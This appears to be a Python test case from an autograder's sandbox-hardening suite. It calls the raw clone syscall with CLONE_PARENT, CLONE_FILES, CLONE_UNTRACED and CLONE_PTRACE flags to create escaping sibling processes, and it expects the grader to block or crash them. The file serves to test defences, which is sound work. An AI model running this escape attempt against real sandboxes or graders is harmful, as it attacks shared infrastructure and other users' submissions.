# attack: children that are siblings, share memory or descriptors, and signal the zygote when they end
# asset: machine, other submissions
# channel: kernel, processes
# beats otter: no
# expect: not_implemented,crashed
# place: after
import ctypes
import os
import platform

from autograder.worker import syscalls

libc = ctypes.CDLL(None, use_errno=True)
CLONE = syscalls.numbers(platform.machine())["clone"]
PARENT, FILES, UNTRACED, PTRACE = 0x8000, 0x400, 0x800000, 0x2000
for flags in (PARENT | 17, PARENT | 9, FILES | 9, UNTRACED | 19, PTRACE | 15, PARENT | FILES | 10):
    for _ in range(3):
        if libc.syscall(CLONE, ctypes.c_long(flags), 0, 0, 0, 0) == 0:
            os._exit(0)
